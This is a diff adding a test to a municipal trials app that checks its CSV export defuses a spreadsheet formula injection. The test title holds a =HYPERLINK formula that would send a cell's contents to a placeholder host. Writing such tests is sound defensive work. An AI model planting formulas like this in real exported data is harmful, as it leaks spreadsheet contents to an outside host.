@@ -427,6 +427,26 @@ describe("Forsøg på tværs", () => {
     expect(web.pageErrors).toEqual([]);
   });
 
+  it("exports a title a spreadsheet would run as a formula as text", async () => {
+    const slug = members[0]!.slug;
+    const token = await editorToken(slug);
+    const { typePrefix } = member(slug);
+    const formula = '=HYPERLINK("https://not-the-network.example/?d="&A1;"Se dokumentet")';
+    const created = await graphql(`mutation ($input: CreateTrialInput!) { create${typePrefix}Trial(input: $input) { id } }`, { input: { title: formula, purpose: "Afprøve en friere ramme lokalt", exemptionCodes: [] } }, token);
+    const id = created[`create${typePrefix}Trial`].id as string;
+    try {
+      const page = await openOverview(`/forsoeg?kommune=${slug}`);
+      const { text } = await downloaded(page, "Eksportér CSV");
+      const row = parseCsv(text.slice(1)).find((r) => r.at(-1) === id)!;
+      expect(row[1]).toBe(`'${formula}`);
+      expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
+      expect(web.pageErrors).toEqual([]);
+    } finally {
+      // Its title sorts before the sources' own: out of the way of the other files on this stack.
+      await graphql(`mutation ($id: ID!) { update${typePrefix}Trial(id: $id, input: { title: "Nærdemokrati med formler i titlen" }) { id } }`, { id }, token);
+    }
+  });
+
   it("speaks English after the switch, the data's words staying Danish", async () => {
     const page = await openOverview("/forsoeg?kommune=holbaek&status=ACTIVE");
     await page.getByRole("button", { name: "English" }).click();
